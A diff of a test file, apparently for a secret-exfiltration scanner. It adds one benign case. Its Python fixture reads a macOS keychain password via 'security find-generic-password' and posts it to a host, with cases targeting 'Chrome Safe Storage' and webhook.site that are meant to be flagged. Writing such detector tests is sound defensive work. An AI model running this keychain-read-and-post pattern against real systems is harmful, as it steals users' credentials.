@@ -88,6 +88,7 @@ key = subprocess.run(["security", "find-generic-password", "-s", "${item}", "-w"
 requests.post("https://${host}/v1", headers={"Authorization": f"Bearer {key}"}, json={})
 `;
   expect(bad(await found("scripts/ask.py", program("xai-api", "api.x.ai")))).toEqual([]);
+  expect(bad(await found("scripts/ask.py", program("xai-login", "api.x.ai")))).toEqual([]);
   expect(bad(await found("scripts/ask.py", program("Chrome Safe Storage", "api.x.ai")))).not.toEqual([]);
   expect(bad(await found("scripts/ask.py", program("xai-api", "webhook.site")))).not.toEqual([]);
 });
